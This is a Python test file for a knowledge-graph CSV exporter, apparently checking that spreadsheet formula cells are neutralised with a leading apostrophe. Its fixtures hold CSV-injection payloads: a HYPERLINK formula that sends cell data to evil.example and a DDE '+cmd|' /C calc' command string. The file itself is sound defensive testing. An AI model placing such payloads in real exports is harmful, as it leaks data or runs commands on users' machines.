"""Issue 12: CSV cells a spreadsheet would run as formulas are neutralised (OWASP rule)."""
from __future__ import annotations

import csv
import io

import networkx as nx

from kg.export.csv import csv_tables, spreadsheet_safe


def test_formula_labels_become_text_and_numbers_stay_numbers():
    G = nx.DiGraph()
    G.add_node("https://w3id.org/kg-news/e/a", label='=HYPERLINK("http://evil.example/?"&A1,"Sudan")', note="+cmd|' /C calc'!A0")
    G.add_node("https://w3id.org/kg-news/e/b", label="@SUM(1+1)", score=-3.5)
    G.add_node("https://w3id.org/kg-news/e/c", label="-2+3", place="Port-au-Prince")
    G.add_edge("https://w3id.org/kg-news/e/a", "https://w3id.org/kg-news/e/b", weight=2, kind="=attacked")
    nodes_text, edges_text = csv_tables(G)
    nodes = {row["Id"]: row for row in csv.DictReader(io.StringIO(nodes_text))}
    assert nodes["https://w3id.org/kg-news/e/a"]["Label"].startswith("'=HYPERLINK(")
    assert nodes["https://w3id.org/kg-news/e/a"]["note"] == "'+cmd|' /C calc'!A0"
    assert nodes["https://w3id.org/kg-news/e/b"]["Label"] == "'@SUM(1+1)"
    assert nodes["https://w3id.org/kg-news/e/b"]["score"] == "-3.5"
    assert nodes["https://w3id.org/kg-news/e/c"]["Label"] == "'-2+3"
    assert nodes["https://w3id.org/kg-news/e/c"]["place"] == "Port-au-Prince"
    (edge,) = csv.DictReader(io.StringIO(edges_text))
    assert edge["Label"] == "'=attacked" and edge["Weight"] == "2"
    for cell in (c for line in (nodes_text + edges_text).splitlines()[1:] for c in next(csv.reader([line]))):
        assert not cell.startswith(("=", "+", "@", "\t", "\r")) or cell.startswith("'")


def test_tab_and_carriage_return_starts_are_neutralised():
    assert spreadsheet_safe("\t=1+1") == "'\t=1+1"
    assert spreadsheet_safe("\r=1+1") == "'\r=1+1"
    assert spreadsheet_safe("1e5") == "1e5"
